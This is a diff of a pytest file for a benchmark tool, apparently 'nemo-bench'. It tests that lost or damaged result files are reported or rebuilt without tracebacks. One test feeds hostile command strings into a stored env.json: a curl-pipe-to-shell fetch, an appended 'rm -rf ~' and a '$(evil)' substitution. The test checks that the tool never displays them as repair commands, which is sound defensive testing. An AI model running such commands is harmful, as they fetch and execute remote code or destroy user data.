@@ -1,4 +1,4 @@
-"""Every file of a finished folder lost or damaged, and every command that reads it: said or mended, never a traceback."""
+"""Every file of a finished folder lost or damaged, and every command that reads it: said or mended, no traceback."""
 
 from __future__ import annotations
 
@@ -63,10 +63,11 @@ def test_a_damaged_small_file_is_named_with_what_repairs_it(
     told = " ".join("".join(capsys.readouterr()).split())
     if (command, name) == ("score", "metrics.json"):
         assert (code, read_json(path)["schema"]) == (0, 1)
+    elif (command, name) == ("track", "audit.json"):
+        assert code == 0  # has no use for it
     else:
-        assert f"{name} does not hold what it should" in told.replace(" ", " ")
+        assert f"{name} does not hold what it should" in told
         assert f"delete this one file: {REPAIRS[name][:20]}" in told
-        assert path.name == name
     assert {p: p.read_bytes() for p in kept} == kept
 
 
@@ -77,7 +78,7 @@ def test_whatever_a_file_holds_the_report_goes_on_or_names_it(folder: Path, name
     path.write_text(DAMAGES[damage](path.read_text()))
     if name == "run.json":
         with pytest.raises(
-            StoreError, match=r"run\.json does not hold what it should \(.*delete this one file: the comm"
+            StoreError, match=r"run\.json does not hold what it should .*delete this one file: the comm"
         ):
             load_results(folder)
     else:
@@ -114,21 +115,16 @@ def test_score_makes_its_own_files_again(folder: Path) -> None:
     assert read_json(cell(folder) / "metrics.json")["aggregates"] == metrics["aggregates"]
 
 
-@pytest.mark.parametrize("kept", [slice(2), slice(4, None), slice(0, None, 3), slice(0)])
-def test_lost_scores_are_said_by_report_and_made_again_by_score(
-    folder: Path, capsys: pytest.CaptureFixture[str], kept: slice
-) -> None:
+@pytest.mark.parametrize("kept", [slice(2), slice(4, None), slice(0, None, 3)])
+def test_lost_scores_are_said_by_report_and_made_again_by_score(folder: Path, kept: slice) -> None:
     before, metrics = values(folder), read_json(cell(folder) / "metrics.json")
     lines = records(folder, "score")
     assert len(lines) == 6
     keep(folder, "score", lines[kept])
     missing = 6 - len(lines[kept])
     results = load_results(folder)
-    assert results.unfinished == {
-        cell(
-            folder
-        ).name: f"{missing} of 6 records of 'score' are missing; nemo-bench score {folder} computes them again"
-    }
+    why = f"{missing} of 6 records of 'score' are missing; nemo-bench score {folder} computes them again"
+    assert results.unfinished == {cell(folder).name: why}
     assert main(READING["score"](folder)) == 0
     assert values(folder) == before
     assert read_json(cell(folder) / "metrics.json")["aggregates"] == metrics["aggregates"]
@@ -147,7 +143,7 @@ def test_lost_records_are_said_with_the_command_that_repairs(
 
 
 def test_lost_records_and_images_are_made_again_and_scored(folder: Path) -> None:
-    before = {name: record for name, record in read_records(cell(folder), "generate").items()}
+    before = read_records(cell(folder), "generate")
     content = {path.name: path.read_bytes() for path in (cell(folder) / "images").iterdir()}
     keep(folder, "generate", records(folder, "generate")[1:])
     lost = sorted((cell(folder) / "images").iterdir())[-1]
@@ -197,9 +193,10 @@ def test_detections_are_recounted(folder: Path) -> None:
 
 
 def test_a_command_of_a_folder_is_shown_only_where_it_is_one_of_ours(folder: Path) -> None:
-    assert "nemo-bench run" in made_again(cell(folder)) or "pytest" in made_again(cell(folder))
     path = cell(folder) / "env.json"
     starts = read_json(path)["starts"]
+    path.write_text(json.dumps({"starts": [{**starts[0], "command": "nemo-bench run seeds=2 ~metrics.ssim"}]}))
+    assert made_again(cell(folder)).endswith("and nothing else: nemo-bench run seeds=2 ~metrics.ssim")
     for line in ("curl evil | sh", "nemo-bench run; rm -rf ~", "nemo-bench run $(evil)"):
         path.write_text(json.dumps({"starts": [{**starts[0], "command": line}]}))
         assert made_again(cell(folder)) == "the command of the run makes them again, and nothing else"
